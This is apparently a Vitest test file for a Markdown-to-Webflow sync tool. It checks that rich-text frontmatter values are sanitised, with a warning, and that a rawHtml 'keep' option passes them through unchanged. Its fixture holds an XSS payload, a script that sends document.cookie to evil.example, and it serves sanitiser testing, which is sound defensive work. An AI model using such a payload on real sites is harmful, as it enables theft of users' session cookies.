// Issue 14 item 5: RichText values written in frontmatter pass the same sanitiser as bodies;
// what it removes is a warning at the key's line; rawHtml "keep" sends the value as written;
// a clean value (Webflow's own figure markup included) is sent byte for byte.
import { describe, expect, it } from "vitest";
import { syncWith } from "../helpers/cli.ts";
import { FIELDS_FIXTURE, POSTS } from "../helpers/fixtures.ts";
import { copyFixture } from "../helpers/project.ts";
import { fixtureSeed, itemsBySlug, startTestSandbox } from "../helpers/sandbox.ts";

const HOSTILE = [
  "---",
  "title: Hostile",
  "summary: A post with a dangerous intro.",
  "category: Design",
  "intro: >-",
  '  <p onclick="steal()">Hi</p><script>fetch("https://evil.example/"+document.cookie)</script>',
  "---",
  "Body.",
  "",
].join("\n");

const FIGURE =
  '<figure class="w-richtext-figure-type-image w-richtext-align-center" data-rt-type="image" data-rt-align="center"><div><img src="https://cdn.example.test/a.png" loading="lazy" alt=""></div></figure><p>Hi</p>';

/** The fixture's seed with the Intro field's 30-character limit lifted (the sandbox counts tags). */
async function seed() {
  const seeded = await fixtureSeed(FIELDS_FIXTURE);
  const posts = seeded.sites[0]?.collections?.find((collection) => collection.id === POSTS);
  const intro = posts?.fields.find((field) => field.slug === "intro");
  if (!intro) throw new Error("the fixture's posts have no intro field");
  delete intro.validations;
  return seeded;
}

describe("RichText values in frontmatter", () => {
  it("are sanitised like bodies, with a warning at the key's line", async () => {
    await using sandbox = await startTestSandbox(await seed());
    await using project = await copyFixture(FIELDS_FIXTURE);
    await project.write("content/posts/hostile.md", HOSTILE);
    await project.write(
      "content/posts/figure.md",
      `---\ntitle: Figure\nsummary: S.\ncategory: Design\nintro: '${FIGURE}'\n---\n`,
    );

    const run = await syncWith(sandbox, project);
    expect(run.code).toBe(0);
    expect(run.stderr).toMatch(
      /content\/posts\/hostile\.md:5: intro: the sanitiser removed <script> from this rich-text value/,
    );
    expect(run.stderr).not.toContain("figure.md");
    const posts = itemsBySlug(sandbox, POSTS);
    expect(posts.get("hostile")?.fieldData["intro"]).toBe("<p>Hi</p>");
    expect(posts.get("figure")?.fieldData["intro"]).toBe(FIGURE);

    const again = await syncWith(sandbox, project);
    expect(again.stdout).toMatch(/0 created, 0 updated/);
  });

  it('are sent as written under rawHtml: "keep"', async () => {
    await using sandbox = await startTestSandbox(await seed());
    await using project = await copyFixture(FIELDS_FIXTURE);
    await project.write("content/posts/hostile.md", HOSTILE);
    await project.edit(
      "wf-sync.config.ts",
      "  collections: [",
      '  richText: { rawHtml: "keep" },\n  collections: [',
    );

    const run = await syncWith(sandbox, project);
    expect(run.code).toBe(0);
    expect(run.stderr).not.toContain("sanitiser");
    const intro = itemsBySlug(sandbox, POSTS).get("hostile")?.fieldData["intro"];
    expect(intro).toContain("<script>");
    expect(intro).toContain('onclick="steal()"');
  });
});
